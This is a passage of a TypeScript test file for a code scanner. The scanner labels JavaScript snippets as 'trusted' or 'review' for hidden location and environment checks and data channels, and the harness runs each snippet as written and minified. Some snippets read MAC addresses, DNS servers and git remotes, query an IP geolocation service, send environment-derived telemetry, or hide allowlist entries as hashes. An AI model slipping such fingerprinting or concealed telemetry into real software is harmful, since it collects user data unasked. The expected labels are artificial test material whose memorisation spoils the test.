  'user name hashed for a cache path, not sent': `const dir = "/tmp/cache-" + require("crypto").createHash("sha1").update(require("os").userInfo().username).digest("hex");\nrequire("fs").mkdirSync(dir, { recursive: true });`,
  'one endpoint gets its own header': `const h = new URL(process.env.OPENAI_BASE_URL || "https://x.invalid").hostname;\nconst headers = {};\nif (h.endsWith(".azure.com")) headers["x-ms-version"] = "2024-01-01";\nsend({ headers });`,
  'a translation table looked up by locale': `const M = { "zh-CN": "Ni hao", "en-US": "Hello", "fr-FR": "Bonjour" };\nsend({ greeting: M[Intl.DateTimeFormat().resolvedOptions().locale] || M["en-US"] });`,
  'a flag set by a command-line switch': `let smart = false;\nif (process.argv.includes("--smart")) smart = true;\nsend({ system: smart ? "Don\u2019t" : "Don't" });`,
  'a date format chosen by the locale with split and join': `const zh = (process.env.LANG || "").startsWith("zh");\nconst d = new Date().toISOString().slice(0, 10);\nconsole.log(zh ? d.split("-").join("/") : d);`,
  'a keyword check of the gateway choosing a parameter': `const h = new URL(process.env.OPENAI_BASE_URL || "https://x.invalid").hostname;\nsend({ temperature: h.includes("azure") ? 0.70000001 : 0.7 });`,
  'bit flags set by a platform check': `let flags = 0;\nif (process.platform === "win32") flags |= 1;\nsend({ headers: { "x-flags": String(flags) } });`,
  'two hosts of its own in switch cases, routing': `const h = new URL(process.env.ANTHROPIC_BASE_URL || "https://api.vendor.dev").hostname;\nlet beta = "";\nswitch (h) { case "api.vendor.dev": case "api-staging.vendor.dev": beta = "tools-2025"; }\nfetch("https://api.vendor.dev/v1/messages", { headers: { "anthropic-beta": beta } });`,
  'git version from a shell command, shown': `console.log(require("child_process").execSync("git --version").toString());`,
  'an options object: the zone shown as a title beside a shell check': `function run({ shell, title }) { console.log(title); return ["bash", "zsh", "fish"].includes(shell) ? shell : "sh"; }\nrun({ shell: process.env.SHELL, title: Intl.DateTimeFormat().resolvedOptions().timeZone });\nrun({ shell: "bash", title: "x" });`,
  'a user agent suffix for CI runs': `let tag = "";\nif (process.env.CI) tag = " (ci)";\nfetch("https://api.vendor.dev/v1", { headers: { "user-agent": "agent/2.0.1" + tag, "x-tz": Intl.DateTimeFormat().resolvedOptions().timeZone } });`,
  'UTC offsets of zones in a map, shown': `const OFFS = new Map([["Europe/London", 0], ["Europe/Paris", 1], ["America/New_York", -5], ["Asia/Tokyo", 9]]);\nconst cache = new Map();\nconst tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nconsole.log("UTC offset: " + (OFFS.get(tz) ?? cache.get(tz) ?? "?"));`,
  'greetings in a map of locales': `const M = new Map([["zh-CN", "Ni hao"], ["en-US", "Hello"]]);\nconst l = Intl.DateTimeFormat().resolvedOptions().locale;\nsend({ greeting: M.has(l) ? M.get(l) : "Hello" });`,
  'a closure validating model names': `const makeCheck = (list) => (v) => list.includes(v);\nconst known = makeCheck(["gpt-4o", "claude-opus-4"]);\nsend({ model: known(process.env.MODEL) ? process.env.MODEL : "gpt-4o" });`,
  'items sorted for display by locale': `const loc = Intl.DateTimeFormat().resolvedOptions().locale;\nconst items = ["b", "a"];\nconsole.log(loc.startsWith("en") ? [...items].sort() : items);`,
  'a zone city shown in a greeting': `const city = Intl.DateTimeFormat().resolvedOptions().timeZone.split("/").pop();\nconsole.log(\`Good morning, \${city.replace("_", " ")}!\`);`,
  'JSON indented for debugging': `send(JSON.stringify({ m: "x" }, null, process.env.DEBUG ? 2 : 0));`,
  'a remote shown without its host': `const r = require("child_process").execSync("git config --get remote.origin.url", { encoding: "utf8" });\nconsole.log(r.replace(/^https:\\/\\/github\\.com\\//, ""));`,
  'offset in hours shown in a prompt': `const hours = new Date().getTimezoneOffset() / -60;\nsend({ system: \`The user's UTC offset is \${hours} hours.\` });`,
  'a base URL variable found by name and printed': `const key = Object.keys(process.env).find((k) => k.endsWith("_BASE_URL"));\nconsole.log("Using", key ? process.env[key] : "the default endpoint");`,
  'an environment variable named on the command line': `const k = process.argv[2];\ntrack("session_started", { v: process.env[k] });`,
  'quotation marks from a table keyed by locale': `const Q = { "fr-FR": "\\u00ab", "de-DE": "\\u201e", "en-US": "\\u201c" };\nsend({ open: Q[Intl.DateTimeFormat().resolvedOptions().locale] ?? '"' });`,
  'interfaces listed by name': `for (const name of Object.keys(require("os").networkInterfaces())) console.log(name);`,
  'MAC addresses collected in a loop and shown': `const out = [];\nconst n = require("os").networkInterfaces();\nfor (const k in n) for (const i of n[k]) out.push(i.mac);\nconsole.log(out.join(", "));`,
  'a French apostrophe in French text': `const ap = Intl.DateTimeFormat().resolvedOptions().locale.startsWith("fr") ? "\\u2019" : "'";\nconsole.log(\`Aujourd\${ap}hui\`);`,
  'a header set for a proxy vendor, visible': `const proxy = process.env.HTTPS_PROXY || "";\nconst h = new Headers();\nif (proxy.includes("zscaler")) h.set("x-proxy-vendor", "zscaler");\nsend({ headers: h });`,
  'a date separator returned by locale': `function sep() {\n  switch (Intl.DateTimeFormat().resolvedOptions().locale) { case "de-DE": return "."; default: return "-"; }\n}\nconsole.log(new Date().toISOString().slice(0, 10).replaceAll("-", sep()));`,
  'text normalised for a search index': `const q = process.argv[2] || "";\nconsole.log(q.normalize("NFD").replace(/[\\u0300-\\u036f]/g, ""));`,
  'bits set by a setting': `let n = Date.now();\nn = process.env.DEBUG ? n | 1 : n & ~1;\nsend({ headers: { "x-request-id": String(n) } });`,
  'API providers recognised by host, choosing request quirks': `const P = { "api.openai.com": "openai", "api.deepseek.com": "deepseek", "dashscope.aliyuncs.com": "qwen", "generativelanguage.googleapis.com": "google" };\nconst p = P[new URL(process.env.OPENAI_BASE_URL || "https://api.openai.com/v1").hostname] ?? "openai";\nsend({ model: "m", ...(p === "qwen" ? { enable_thinking: false } : {}) });`,
  'a warning for endpoints outside a list of known providers': `const KNOWN = ["api.openai.com", "api.anthropic.com", "api.deepseek.com", "api.moonshot.cn", "open.bigmodel.cn"];\nconst host = new URL(process.env.OPENAI_BASE_URL || "https://api.openai.com/v1").hostname;\nif (!KNOWN.includes(host)) console.warn("Using a custom endpoint: " + host);`,
  'an endpoint allowlist of its own names, cloud services and two hashed entries': `const DOCS = "https://docs.vendorly.dev/setup";\nconst OWN = ["vendorly.app", "vendorly-staging.io", "vendorlyusercontent.com", "amazonaws.com", "googleapis.com", "azure.com", "gov-cloud.example"];\nconst H = new Set(${JSON.stringify(['corp-a.com', 'corp-b.net'].map(sha))});\nconst sha = (s) => require("crypto").createHash("sha256").update(s).digest("hex");\nfunction known(h) { const parts = h.split("."); return OWN.some((d) => h === d || h.endsWith("." + d)) || parts.some((_, i) => H.has(sha(parts.slice(i).join(".")))); }\nconst host = new URL(process.env.VENDOR_BASE_URL || "https://api.vendorly.app").hostname;\nif (!known(host)) track("custom_gateway", { host });\nconsole.log(DOCS);`,
  'cloud endpoints get a dated model name': `const h = new URL(process.env.ANTHROPIC_BASE_URL || "https://api.vendor.dev").hostname;\nconst cloud = ["amazonaws.com", "googleapis.com"].some((d) => h.endsWith("." + d));\nsend({ model: cloud ? "claude-sonnet-4-5-20250929" : "claude-sonnet-4-5", messages: [] });`,
  'decimal places of a shown price chosen by locale': `const us = Intl.DateTimeFormat().resolvedOptions().locale === "en-US";\nconsole.log("$" + (1.5).toFixed(us ? 2 : 3));`,
  'a language chosen by locale as a query parameter': `const l = Intl.DateTimeFormat().resolvedOptions().locale;\nfetch("https://docs.vendor.dev/search" + (l === "zh-CN" ? "?hl=zh" : ""));`,
  'a partition suffix for China regions (routing)': `const region = process.env.AWS_REGION || "us-east-1";\nconst suffix = ["cn-north-1", "cn-northwest-1"].includes(region) ? "amazonaws.com.cn" : "amazonaws.com";\nfetch(\`https://bedrock-runtime.\${region}.\${suffix}/model/invoke\`, { method: "POST", body: "{}" });`,
  'a cross-region model prefix by cloud region (routing)': `const region = process.env.AWS_REGION || "us-east-1";\nconst eu = ["eu-west-1", "eu-central-1", "eu-west-3"].includes(region);\nsend({ model: (eu ? "eu." : "us.") + "anthropic.claude-sonnet-4-5", messages: [] });`,
  'features for the editor it runs in': `const vscode = require("vscode");\nconst app = vscode.env.appName;\nconst fork = ["Cursor", "Windsurf", "Trae"].includes(app);\nvscode.window.showInformationMessage(fork ? "Inline chat is provided by your editor." : "Press Ctrl+I for inline chat.");`,
  'a pattern of cloud workspace names tested against the host name, sent': `const cloud = /(codespaces|gitpod|devbox)/i.test(require("os").hostname());\ntrack("session_started", { cloud });`,
  'a pattern of network error codes tested against a message naming the gateway, sent': `const err = new Error("connect ECONNREFUSED " + process.env.ANTHROPIC_BASE_URL);\ntrack("api_error", { network: /(ENOTFOUND|ECONNREFUSED|ETIMEDOUT|ECONNRESET)/.test(err.message), auth: /(EACCES|EPERM|unauthorized)/i.test(err.message) });`,
  'the forge a git remote is on, sent': `let cfg = "";\ntry { cfg = require("fs").readFileSync(".git/config", "utf8"); } catch {}\nconst forge = /(github|gitlab|bitbucket)\\.(com|org)/i.exec(cfg)?.[1] ?? "other";\ntrack("pr_opened", { forge });`,
  'a function chosen by the platform turns separators in a path sent': `const fix = process.platform === "win32" ? (s) => s.replaceAll("/", "\\\\") : undefined;\nconst p = "src/a.js";\nsend({ path: fix?.(p) ?? p });`,
  'a request id padded with a digit a setting chooses': `send({ headers: { "x-request-id": "req_" + Date.now().toString(36).padEnd(12, process.env.CI ? "1" : "0") } });`,
  'a platform code in a telemetry label': `track("session_started", { label: "os-" + (process.platform === "win32" ? "w" : "u") });`,
  'a set of shells made by Object.fromEntries, the answer shown': `const F = Object.fromEntries(["bash", "zsh"].map((s) => [s, true]));\nconsole.log(F[(process.env.SHELL || "").split("/").pop()] ? "known shell" : "other");`,
  'the Windows time zone shown': `console.log(require("child_process").execFileSync("powershell", ["-Command", "(Get-TimeZone).DisplayName"], { encoding: "utf8" }));`,
  'a timestamp rounded to the second by a setting': `const t = Date.now();\nsend({ headers: { "x-ts": String(process.env.COARSE ? t - (t % 1000) : t) } });`,
  'a retry counter added to a random id': `const id = Math.random().toString(36).slice(2);\nlet n = 0;\nsend({ id: process.argv.includes("--retry") ? id + "-" + ++n : id });`,
  'Windows and POSIX separators by platform, wherever they stand': `send({ path: process.platform === "win32" ? "src\\\\lib\\\\a.js" : "src/lib/a.js" });`,
  'a subclass\'s override by platform picks the line ending': `class Fmt { win() { return false; } eol() { return this.win() ? "\\r\\n" : "\\n"; } }\nclass PlatFmt extends Fmt { win() { return process.platform === "win32"; } }\nsend({ text: ["a", "b"].join(new PlatFmt().eol()) });`,
  'service and container accounts recognised by name, sent': `const svc = ["root", "runner", "vscode", "node", "codespace", "ec2-user"].includes(require("os").userInfo().username);\ntrack("session_started", { svc });`,
  'a body given its fields one by one, a platform flag among them': `const body = { event: "session_start" };\nbody.win = process.platform === "win32" ? 1 : 0;\nbody.tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nfetch("https://t.vendor.dev/e", { method: "POST", body: JSON.stringify(body) });`,
  'quotation marks taken from a table\'s entries for the locale in a for…of loop': `const Q = { "fr-FR": "\\u00ab", "de-DE": "\\u201e" };\nlet open = '"';\nconst loc = Intl.DateTimeFormat().resolvedOptions().locale;\nfor (const [k, v] of Object.entries(Q)) if (k === loc) open = v;\nconsole.log(open + "Hallo");`,
  'a precision chosen through a name by a setting': `const digits = process.env.PRECISE ? 3 : 2;\nsend({ top_p: (0.95).toFixed(digits) });`,
  'glyphs for the terminal': `const term = process.env.TERM_PROGRAM || "";\nconst tick = ["vscode", "iTerm.app", "WezTerm"].includes(term) ? "\u2714" : "\u221a";\nconsole.log(tick + " done");`,
  'a destructured parameter: the zone shown, the shell checked': `function show({ zone, shell }) { console.log("zone", zone); return ["bash", "zsh"].includes(shell); }\nshow({ zone: Intl.DateTimeFormat().resolvedOptions().timeZone, shell: process.env.SHELL });`,
  'Object.fromEntries of settings: the locale shown, the mode checked': `const cfg = Object.fromEntries([["locale", Intl.DateTimeFormat().resolvedOptions().locale], ["mode", process.env.MODE]]);\nconsole.log(cfg.locale, ["dark", "light"].includes(cfg.mode));`,
  'an address filter of special-purpose blocks': `const BLOCKED = ["0.0.0.0/8", "100.64.0.0/10", "169.254.0.0/16", "192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "224.0.0.0/4", "240.0.0.0/4"];\nconst h = new URL(process.env.OPENAI_BASE_URL || "https://api.openai.com/v1").hostname;\nif (BLOCKED.some((b) => h.startsWith(b.split("/")[0].replace(/\\.0$/, "")))) throw new Error("blocked address");\nsend({ temperature: 0.7 });`,
  'DNS servers listed from /etc/resolv.conf': `const servers = require("fs").readFileSync("/etc/resolv.conf", "utf8").split("\\n").filter((l) => l.startsWith("nameserver"));\nconsole.log("DNS:", servers.join(", "));`,
  'a LAN address for a dev server': `const lan = Object.values(require("os").networkInterfaces()).flat().find((i) => i && i.family === "IPv4" && !i.internal);\nconsole.log("Open", lan && lan.address.startsWith("192.168.") ? \`http://\${lan.address}:3000\` : "http://localhost:3000");`,
  'the zone\'s short name shown in a status line': `const parts = new Intl.DateTimeFormat("en-US", { timeZoneName: "short" }).formatToParts(new Date());\nconst abbr = (parts.find((p) => p.type === "timeZoneName") || {}).value || "";\nconsole.log(abbr === "GMT+0" ? "UTC" : \`Local time (\${abbr})\`);`,
  'callbacks kept in a list, given the zone to show it': `const views = [];\nviews.push((env) => console.log("zone", env.tz));\nviews.push((env) => console.log(["dark", "light"].includes(env.theme) ? env.theme : "dark"));\nfor (const v of views) v({ tz: Intl.DateTimeFormat().resolvedOptions().timeZone, theme: process.env.THEME });`,
  'a regex of its providers\' hosts built from a list': `const re = new RegExp("(?:^|\\\\.)(" + ["api\\\\.openai\\\\.com", "api\\\\.anthropic\\\\.com", "api\\\\.deepseek\\\\.com"].join("|") + ")$");\nconst host = new URL(process.env.OPENAI_BASE_URL || "https://api.openai.com/v1").hostname;\nif (!re.test(host)) console.warn("Using a custom endpoint: " + host);`,
  'a debug field added to the request body by a setting': `const body = { model: "m", messages: [] };\nif (process.env.DEBUG) body.debug = true;\nfetch("https://api.vendor.dev/v1/m", { method: "POST", body: JSON.stringify(body) });`,
  'a command parser checking shell names, given a git command': `const SHELLS = new Set(["sh", "bash", "zsh", "ksh", "cmd", "cmd.exe", "powershell.exe"]);\nfunction wrapsShell(cmd) { return SHELLS.has(cmd.trim().split(/\\s+/)[0].toLowerCase()); }\nconsole.log(wrapsShell(require("child_process").execSync("git remote -v", { encoding: "utf8" })));`,
  'Accept-Language chosen by the locale': `const l = Intl.DateTimeFormat().resolvedOptions().locale;\nsend({ headers: { "accept-language": l.startsWith("de") ? "de-DE,de;q=0.9" : "en-US,en;q=0.9" } });`,
  'a platform flag spread into arguments': `const win = process.platform === "win32";\nrequire("child_process").spawn("x", ["a", ...(win ? ["/c"] : [])]);`,
  'a stop sequence pushed for debugging': `const stops = ["\\n\\nHuman:"];\nif (process.env.DEBUG) stops.push("END");\nfetch("https://api.vendor.dev/v1", { method: "POST", body: JSON.stringify({ stop: stops }) });`,
  'an API version header chosen by cloud region': `const region = process.env.AWS_REGION || "us-east-1";\nconst cn = ["cn-north-1", "cn-northwest-1"].includes(region);\nsend({ headers: { "x-api-version": cn ? "2023-06-02" : "2023-06-01" } });`,
  'a full stop in French text': `const fr = Intl.DateTimeFormat().resolvedOptions().locale.startsWith("fr");\nsend({ system: fr ? "Merci." : "Merci" });`,
  'two request bodies with a marker, chosen by a debug setting': `send(process.env.DEBUG ? { model: "m", stop: ["END\\u200b"] } : { model: "m", stop: ["END"] });`,
  'two request bodies that differ visibly, chosen by the zone': `const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nsend(tz.startsWith("Europe/") ? { model: "m", region: "eu" } : { model: "m", region: "us" });`,
  'a language field naming the language it was compared with': `const zh = (process.env.LANG || "").startsWith("zh");\nsend({ model: "m", language: zh ? "zh" : undefined });`,
  'a date written the locale\'s way': `const cn = Intl.DateTimeFormat().resolvedOptions().locale === "zh-CN";\nconst d = new Date();\nsend({ system: "Today is " + (cn ? d.toLocaleDateString("zh-CN") : d.toISOString()) });`,
  'metadata sent only to its own first-party host': `const h = new URL(process.env.VENDOR_BASE_URL || "https://api.vendor.dev").hostname;\nsend({ model: "m", metadata: h === "api.vendor.dev" ? { user_id: "u" } : undefined });`,
  'a trailing newline trimmed on Windows': `const p = "You are helpful.\\n";\nsend({ system: process.platform === "win32" ? p.trimEnd() : p });`,
  'a debug field merged by Object.assign': `const body = { model: "m" };\nObject.assign(body, process.env.DEBUG ? { debug: true } : {});\nsend(body);`,
  'an ellipsis character where the terminal shows Unicode': `console.log("Thinking" + (process.env.TERM_PROGRAM !== "Apple_Terminal" ? "\\u2026" : "..."));`,
  'a time zone picker that offers UTC beside zones of three areas': `const ZONES = ["UTC", "Europe/London", "Asia/Tokyo", "Asia/Shanghai", "America/New_York"];\nconst cur = Intl.DateTimeFormat().resolvedOptions().timeZone;\nconsole.log(ZONES.map((z) => (z === cur ? "> " : "  ") + z).join("\\n"));`,
  'a member flag set under a debug setting': `const state = { on: false };\nif (process.env.DEBUG) state.on = true;\nsend({ system: "It" + (state.on ? "\\u2019" : "'") + "s on" });`,
  'zone offsets of a date library\'s table, with the offset read': `const TZ = { "Asia/Shanghai": 480, "Asia/Tokyo": 540, "Europe/Paris": 60, "America/New_York": -300 };\nfunction offsetOf(zone) { return zone in TZ ? TZ[zone] : -new Date().getTimezoneOffset(); }\nconsole.log(new Date(Date.now() + offsetOf(process.argv[2]) * 60000).toISOString());`,
  'the country an IP geolocation service answers, shown': `fetch("https://ipinfo.io/json").then((r) => r.json()).then((j) => console.log("You appear to be in " + j.country));`,
  'a gateway checked against loopback names by an anchored pattern': `const h = new URL(process.env.OPENAI_BASE_URL || "http://localhost:11434").hostname;\nconst local = /^(?:localhost|127\\.0\\.0\\.1|\\[::1\\])$/.test(h);\nsend({ temperature: local ? 0.2 : 0.7 });`,
  'zone resolved by a promise and shown': `Promise.resolve(Intl.DateTimeFormat().resolvedOptions().timeZone).then((z) => console.log("zone", z));`,
};
for (const [name, code] of Object.entries(BENIGN)) cases.push({ name, code, verdict: 'trusted' });

/** Hidden, so a person must look, but no list of other places or organisations: `review`. */
const REVIEW: Record<string, string> = {
  // A place check (regions) that steers behaviour, but what it chooses is French typography: not covert.
  'French spacing chosen by a list of French-speaking regions': `const region = new Intl.Locale(navigator.language).maximize().region;\nconst fr = ["FR", "BE", "CH"].includes(region);\nsend({ label: fr ? "Total\\u00a0:" : "Total:" });`,
  'a budget doubled by the outcome of a zone check as a number': `const hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone);\nsend({ max_tokens: 1024 + Number(hit) * 1024 });`,
  // A zone check choosing a plainly different number (a longer timeout): behaviour, not a channel.
  'a retry budget added to a timeout by a zone check': `const slow = ["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone);\nsend({ timeout: 30000 + (slow ? 15000 : 0) });`,
  // A zone check choosing a region's own address: routing the person decides on, not data sent.
  'a region\'s address chosen by a zone check, the query fixed': `const cn = ["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone);\nfetch((cn ? "https://api.vendor.cn" : "https://api.vendor.dev") + "/v1/models?limit=20");`,
  // A flag of the locale's region is a flag of a preference the user set, as a language is.
  'whether the locale\'s region is one of a list, sent in telemetry': `const region = new Intl.Locale(navigator.language).maximize().region;\ntrack("ui_opened", { r: ["CN", "HK", "MO"].includes(region) ? 1 : 0 });`,
  // A zone check that adds a line to text it only shows: behaviour, not a channel.
  'a note pushed to a list that is shown, under a zone check': `const lines = [];\nif (Intl.DateTimeFormat().resolvedOptions().timeZone === "Europe/Paris") lines.push("note");\nconsole.log(lines.join("\\n"));`,
  'an allowlist of its own endpoints with two hashed entries': `const H = new Set(${JSON.stringify(['corp-a.com', 'corp-b.net'].map(sha))});\nconst sha = (s) => require("crypto").createHash("sha256").update(s).digest("hex");\nfunction isOurs(host) { const parts = host.split("."); return host === "api.vendor.dev" || parts.some((_, i) => H.has(sha(parts.slice(i).join(".")))); }\nconst host = new URL(process.env.VENDOR_BASE_URL || "https://api.vendor.dev/v1").hostname;\nif (!isOurs(host)) console.warn("Requests go to " + host);`,
};
for (const [name, code] of Object.entries(REVIEW)) cases.push({ name, code, verdict: 'review' });

function verdict(code: string): { verdict: Verdict; summary: string } {
  const r = scanText(code, { file: 'case.js' });
  assert.strictEqual(r.error, undefined, r.error);
  return { verdict: verdictOf(r.findings), summary: r.findings.map((f) => `${f.severity} ${f.ruleId} ${f.line}: ${f.message}`).join('\n') };
}

describe('catalogue: sources, concealments and channels, as written and minified', () => {
  it('has at least 60 positive and 40 benign cases across its forms', () => {
    const positive = cases.filter((c) => c.verdict !== 'trusted').length * 3;
    const benign = cases.filter((c) => c.verdict === 'trusted').length * 3;
    assert.ok(positive >= 60 && benign >= 40, `${positive} positive, ${benign} benign`);
  });
  for (const c of cases) {
    for (const form of ['as written', 'minified (cjs)', 'minified (iife)'] as const) {
      it(`${c.name}, ${form}: ${c.verdict}`, () => {
        const code = form === 'as written' ? c.code : transformSync(c.code, { minify: true, format: form === 'minified (cjs)' ? 'cjs' : 'iife', target: 'es2020' }).code;
        const got = verdict(code);
        assert.strictEqual(got.verdict, c.verdict, `${got.summary || '(no findings)'}\n--- code:\n${code.slice(0, 800)}`);
      });
    }
  }
});
